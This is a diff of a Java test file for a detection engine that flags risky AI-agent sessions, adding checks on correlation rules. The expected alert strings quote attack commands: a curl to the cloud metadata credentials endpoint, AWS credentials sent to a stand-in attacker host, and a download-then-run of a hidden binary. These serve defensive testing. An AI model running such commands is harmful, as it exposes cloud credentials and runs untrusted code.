@@ -8,12 +8,16 @@ import dev.peregrine.collector.event.Event;
 import dev.peregrine.collector.event.FieldRegistry;
 import dev.peregrine.collector.ndjson.LineRejectedException;
 import dev.peregrine.collector.ndjson.NdjsonParser;
-import dev.peregrine.engine.falco.FalcoRuleEvaluator;
+import dev.peregrine.engine.DetectionEngine;
+import dev.peregrine.engine.cep.CepCompiler;
+import dev.peregrine.engine.cep.CepProgram;
+import dev.peregrine.engine.rules.CepRuleDef;
 import dev.peregrine.engine.rules.RuleDef;
 import dev.peregrine.engine.rules.RuleFile;
 import dev.peregrine.engine.rules.RuleLoadException;
 import dev.peregrine.engine.rules.RuleLoader;
 import dev.peregrine.engine.rules.RuleSet;
+import dev.peregrine.engine.time.ReorderBuffer;
 import java.io.IOException;
 import java.io.InputStream;
 import java.nio.charset.StandardCharsets;
@@ -27,20 +31,24 @@ import org.junit.jupiter.params.provider.MethodSource;
 
 /**
  * The shipped rule set, loaded from the classpath through index.txt as the application loads it,
- * against recorded traces: for every enabled rule, {@code traces/<rule id>/attack.ndjson} must
- * raise that rule and {@code traces/<rule id>/benign.ndjson} - a close look-alike - must not.
+ * against recorded traces: for every enabled rule and cep item,
+ * {@code traces/<id>/attack.ndjson} must raise it and {@code traces/<id>/benign.ndjson} - a close
+ * look-alike - must not. Traces run through the {@link DetectionEngine}, so cep items see the
+ * per-event rules' matches as signals, in event time, as in the application.
  */
 class ShippedRulesTest {
 
     private static final String TRACES = "traces/";
 
+    private static final CepCompiler COMPILER = new CepCompiler(FieldRegistry.standard());
+
     private static RuleSet rules;
-    private static FalcoRuleEvaluator evaluator;
+    private static CepProgram program;
 
     @BeforeAll
     static void loadShippedRules() throws RuleLoadException {
         rules = load();
-        evaluator = new FalcoRuleEvaluator(rules);
+        program = COMPILER.compile(rules.activeCepRules());
     }
 
     @Test
@@ -55,6 +63,9 @@ class ShippedRulesTest {
         assertThat(loaded.warnings()).isEmpty();
         assertThat(loaded.rules()).hasSizeGreaterThanOrEqualTo(15);
         assertThat(loaded.rules()).allSatisfy(rule -> assertThat(rule.enabled()).as(rule.id()).isTrue());
+        assertThat(loaded.cepRules()).extracting(CepRuleDef::id).contains("tool_approval_bypass",
+                "download_then_execute", "shell_then_metadata", "credential_read_then_egress");
+        assertThat(loaded.cepRules()).allSatisfy(cep -> assertThat(cep.enabled()).as(cep.id()).isTrue());
     }
 
     @Test
@@ -137,6 +148,57 @@ class ShippedRulesTest {
                 .anySatisfy(output -> assertThat(output).contains("url=https://api.github.com.attacker.example/"));
     }
 
+    @Test
+    void shellThenMetadataAlertNamesTheShellCommandAndTheMetadataTarget() {
+        final Alert alert = first("shell_then_metadata", replay(TRACES + "shell_then_metadata/attack.ndjson"));
+
+        assertThat(alert.output())
+                .startsWith("Agent shell followed by cloud metadata access")
+                .contains("agent=infra-agent session=s-71cd2f")
+                .contains("shell_command=bash -c curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+                .contains("metadata=10.244.3.17:48712->169.254.169.254:80 via=cloud_metadata_connect")
+                .contains("shell_at=2026-11-22T10:15:03.100000000Z");
+        assertThat(alert.firstSeenNanos()).isLessThan(alert.lastSeenNanos());
+        assertThat(alert.session()).isEqualTo("s-71cd2f");
+        assertThat(alert.tags()).contains("maturity_incubating", "T1552.005");
+    }
+
+    @Test
+    void credentialThenEgressAlertNamesTheSecretAndTheDestination() {
+        final List<Alert> alerts = replay(TRACES + "credential_read_then_egress/attack.ndjson");
+
+        assertThat(alerts).filteredOn(a -> a.ruleId().equals("credential_read_then_egress")).singleElement()
+                .satisfies(alert -> assertThat(alert.output())
+                        .contains("secret=/home/agent/.aws/credentials destination=paste.attacker.example")
+                        .contains("via=egress_not_allowlisted"));
+    }
+
+    @Test
+    void downloadedFileExecutedAlertNamesTheFileAndBothCommands() {
+        final Alert alert = first("download_then_execute", replay(TRACES + "download_then_execute/attack.ndjson"));
+
+        assertThat(alert.output())
+                .contains("file=/tmp/.cache/agent-helper")
+                .contains("download_command=curl -fsSL -o /tmp/.cache/agent-helper https://dl.helper-tools.example/agent-helper")
+                .contains("command=agent-helper --register");
+    }
+
+    @Test
+    void replayingAllCepTracesAsOneStreamGivesTheSameAlertsAsEachAlone() {
+        final List<Alert> separately = new ArrayList<>();
+        final List<Event> together = new ArrayList<>();
+        for (final String id : program.ruleIds()) {
+            final List<Event> attack = events(TRACES + id + "/attack.ndjson");
+            separately.addAll(replay(attack).stream().filter(a -> a.ruleId().equals(id)).toList());
+            together.addAll(attack);
+        }
+        together.sort(java.util.Comparator.comparingLong(Event::timeNanos));
+
+        final List<Alert> merged = replay(together).stream().filter(a -> program.ruleIds().contains(a.ruleId())).toList();
+
+        assertThat(merged).containsExactlyInAnyOrderElementsOf(separately);
+    }
+
     static Stream<String> enabledRuleIds() {
         if (rules == null) {
             try {
@@ -145,14 +207,15 @@ class ShippedRulesTest {
                 throw new IllegalStateException(e.getMessage(), e);
             }
         }
-        return rules.rules().stream().filter(RuleDef::enabled).map(RuleDef::id);
+        return Stream.concat(rules.rules().stream().filter(RuleDef::enabled).map(RuleDef::id),
+                rules.activeCepRules().stream().map(CepRuleDef::id));
     }
 
     private static RuleSet load() throws RuleLoadException {
         final List<RuleFile> files = ShippedRules.files().stream()
                 .map(file -> new RuleFile(ShippedRules.DIRECTORY + file, ShippedRules.text(file)))
                 .toList();
-        return new RuleLoader(FieldRegistry.standard()).loadFiles(files);
+        return new RuleLoader(FieldRegistry.standard(), COMPILER).loadFiles(files);
     }
 
     private static Alert first(final String ruleId, final List<Alert> alerts) {
@@ -162,8 +225,29 @@ class ShippedRulesTest {
 
     /** Every alert the shipped rules raise on the trace; a trace line that does not parse fails the test. */
     private static List<Alert> replay(final String resource) {
+        return replay(events(resource));
+    }
+
+    /** Every alert the shipped rules and cep items raise on {@code events}, fed as a replay feeds them. */
+    private static List<Alert> replay(final List<Event> events) {
+        final DetectionEngine engine = new DetectionEngine(rules, program, List.of(),
+                ReorderBuffer.DEFAULT_ALLOWED_LATENESS);
+        try {
+            final List<Alert> alerts = new ArrayList<>();
+            for (final Event event : events) {
+                engine.onEvent(event, alerts::add);
+            }
+            engine.endOfInput(alerts::add);
+            assertThat(engine.failures()).as("detector failures").isEmpty();
+            return alerts;
+        } finally {
+            engine.close();
+        }
+    }
+
+    private static List<Event> events(final String resource) {
         final NdjsonParser parser = new NdjsonParser();
-        final List<Alert> alerts = new ArrayList<>();
+        final List<Event> events = new ArrayList<>();
         final String text;
         try (InputStream in = ShippedRules.resource(resource)) {
             text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
@@ -177,14 +261,12 @@ class ShippedRulesTest {
                 continue;
             }
             final byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
-            final Event event;
             try {
-                event = parser.parse(bytes, 0, bytes.length);
+                events.add(parser.parse(bytes, 0, bytes.length));
             } catch (final LineRejectedException e) {
                 throw new AssertionError(resource + ":" + lineNumber + ": trace line rejected: " + e.getMessage(), e);
             }
-            alerts.addAll(evaluator == null ? new FalcoRuleEvaluator(rules).evaluate(event) : evaluator.evaluate(event));
         }
-        return alerts;
+        return events;
     }
 }
